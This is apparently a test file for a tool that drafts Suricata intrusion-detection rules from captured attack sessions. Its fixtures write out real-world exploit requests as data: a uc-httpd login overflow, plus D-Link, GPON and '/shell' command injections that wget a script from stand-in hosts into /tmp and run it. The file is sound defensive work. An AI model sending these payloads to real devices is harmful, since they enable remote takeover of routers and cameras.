import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Session } from "../schema/session.js";
import { GPON_REQUEST, httpGet, UC_REQUEST_LINE } from "../simulate/payloads.js";
import { bytes, session } from "./campaign-fixture.js";
import { contentText } from "./draft-render.js";
import { DRAFT_SID_BASE, DRAFT_SID_SPAN, draftMatches, draftRule, draftSid } from "./draft-rule.js";
import { type RuleSample, ruleSampleOf } from "./draft-sample.js";
import { templateOf } from "./template.js";

const uc = (n: number): Uint8Array =>
  Buffer.concat([
    UC_REQUEST_LINE,
    bytes(`command=login&username=${"A".repeat(n)}&password=PoC\r\n\r\n`),
  ]);
const dlink = (host: string): string =>
  `GET /login.cgi?cli=aa%20aa%27;wget%20http://${host}/r%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$ HTTP/1.1\r\n\r\n`;
const login = (u: string): string =>
  `POST /login.htm HTTP/1.1\r\nHost: 203.0.113.5\r\nContent-Length: ${23 + u.length}\r\n\r\ncommand=login&username=${u}`;

const sample = (s: Session): RuleSample => ruleSampleOf(s, templateOf(s).id);

function draftFor(positives: Session[], negatives: Session[], ports: number[]) {
  const ps = positives.map(sample);
  const t = templateOf(positives[0] as Session);
  return {
    ps,
    ns: negatives.map(sample),
    result: draftRule({
      templateId: t.id,
      kind: t.kind,
      ports,
      positives: ps,
      negatives: negatives.map(sample),
      date: "2018_06_14",
      sid: draftSid(t.id),
    }),
  };
}

const others = (): Session[] => [
  session({ client: login("admin") }),
  session({ client: login("root") }),
  session({ client: dlink("198.51.100.7"), dport: 8080 }),
  session({ client: GPON_REQUEST, dport: 8080 }),
  session({ client: httpGet(0xcb007105, 80) }),
  session({ client: "POST /login.htm HTTP/1.1\r\n\r\n" }),
];

describe("draftRule", () => {
  it("drafts the uc-httpd overflow rule of June 2018, apart from plain logins", () => {
    const pos = [85, 90, 120, 97].map((n, i) =>
      session({ client: uc(n), dport: i % 2 ? 80 : 8000 }),
    );
    const { ps, ns, result } = draftFor(pos, others(), [80, 8000]);
    if (!("rule" in result)) throw new Error(result.reason);
    const id = templateOf(pos[0] as Session).id;
    expect(result.rule).toMatch(
      /^alert http any any -> \$HOME_NET \[80,8000\] \(msg:"PORTENT DRAFT http POST \/login\.htm/,
    );
    expect(result.rule).toContain(
      'http.method; content:"POST"; http.uri; content:"/login.htm"; startswith;',
    );
    expect(result.rule).toContain('content:"command=login&username=AAAA');
    expect(result.rule).toContain(
      `sid:${draftSid(id)}; rev:1; metadata:created_at 2018_06_14, portent_template ${id};)`,
    );
    expect(result.rule).toContain("flow:established,to_server; content:");
    for (const p of ps) expect(draftMatches(result.contents, true, p, true)).toBe(true);
    for (const n of ns) expect(draftMatches(result.contents, true, n, false)).toBe(false);
  });

  it("keeps downloader addresses out of the DSL-2750B draft", () => {
    const pos = ["198.51.100.7", "203.0.113.9", "dl.example.com"].map((h) =>
      session({ client: dlink(h), dport: 8080 }),
    );
    const { result } = draftFor(
      pos,
      others().filter((s) => !s.clientBytes.includes(0x3f)),
      [80, 8080],
    );
    if (!("rule" in result)) throw new Error(result.reason);
    expect(result.rule).toContain(
      'http.method; content:"GET"; http.uri; content:"/login.cgi?cli="; startswith;',
    );
    expect(result.rule).not.toMatch(/198|203|example|\/tmp/);
  });

  it("drafts raw TCP rules with a depth on the stream", () => {
    const pos = ["a1b2c3d4e5", "ffee0011aa"].map((t) =>
      session({ client: `\x01\x02PORTENT-PROBE ${t}\r\n`, dport: 7001 }),
    );
    const neg = [session({ client: "\x01\x02PORTENT-OTHER x\r\n", dport: 7001 })];
    const { result } = draftFor(pos, neg, [7001]);
    if (!("rule" in result)) throw new Error(result.reason);
    expect(result.rule).toMatch(/^alert tcp any any -> \$HOME_NET 7001 \(/);
    expect(result.rule).toContain('content:"|01 02|PORTENT-PROBE "; depth:16;');
    expect(result.rule).toContain("classtype:misc-activity;");
  });

  it("says so when no content separates the campaign", () => {
    const a = session({ client: "GET / HTTP/1.1\r\nA: 1\r\nB: 2\r\n\r\n" });
    const b = session({ client: "GET / HTTP/1.1\r\nB: 2\r\nA: 1\r\n\r\n" });
    expect(templateOf(a).id).not.toBe(templateOf(b).id);
    const { result } = draftFor([a], [b], [80]);
    expect("reason" in result && result.reason).toMatch(
      /^no stable content separates it from template [0-9a-f]{16}/,
    );
  });

  it("matches every sampled session of the campaign and none of the others", () => {
    const shapes: Array<(h: string, n: number) => string | Uint8Array> = [
      (_h, n) => uc(85 + n),
      (h) => dlink(h),
      (h) =>
        `POST /GponForm/diag_Form?images/ HTTP/1.1\r\nContent-Length: 60\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=\`wget+http://${h}/g\``,
      (_h, n) => login(`user${n}`),
      (h, n) => `GET /shell?cd+/tmp;wget+http://${h}/${n} HTTP/1.1\r\n\r\n`,
      (h, n) => `root\r\npass${n}\r\nwget http://${h}/x\r\n`,
    ];
    const host = fc
      .tuple(
        fc.constantFrom("192.0.2", "198.51.100", "203.0.113"),
        fc.integer({ min: 1, max: 254 }),
      )
      .map(([p, x]) => `${p}.${x}`);
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: shapes.length - 1 }),
        fc.array(fc.tuple(host, fc.nat(300)), { minLength: 1, maxLength: 4 }),
        fc.array(fc.tuple(fc.integer({ min: 0, max: shapes.length - 1 }), host, fc.nat(300)), {
          maxLength: 12,
        }),
        (k, posArgs, negArgs) => {
          const pos = posArgs.map(([h, n]) =>
            session({ client: (shapes[k] as (h: string, n: number) => string | Uint8Array)(h, n) }),
          );
          const id = templateOf(pos[0] as Session).id;
          const neg = negArgs
            .map(([j, h, n]) =>
              session({
                client: (shapes[j] as (h: string, n: number) => string | Uint8Array)(h, n),
              }),
            )
            .filter((s) => templateOf(s).id !== id);
          if (pos.some((s) => templateOf(s).id !== id)) return true;
          const { ps, ns, result } = draftFor(pos, neg, [80]);
          if (!("rule" in result)) return true;
          const http = result.rule.startsWith("alert http");
          return (
            ps.every((p) => draftMatches(result.contents, http, p, true)) &&
            ns.every((n) => !draftMatches(result.contents, http, n, false))
          );
        },
      ),
      { numRuns: 150 },
    );
  });

  it("escapes contents and keeps sids in the draft range", () => {
    expect(contentText('a"b;c|d\\e\r\n\x00z')).toBe("a|22|b|3B|c|7C|d|5C|e|0D 0A 00|z");
    fc.assert(
      fc.property(fc.stringMatching(/^[0-9a-f]{16}$/), (id) => {
        const sid = draftSid(id);
        return sid >= DRAFT_SID_BASE && sid < DRAFT_SID_BASE + DRAFT_SID_SPAN;
      }),
    );
  });
});
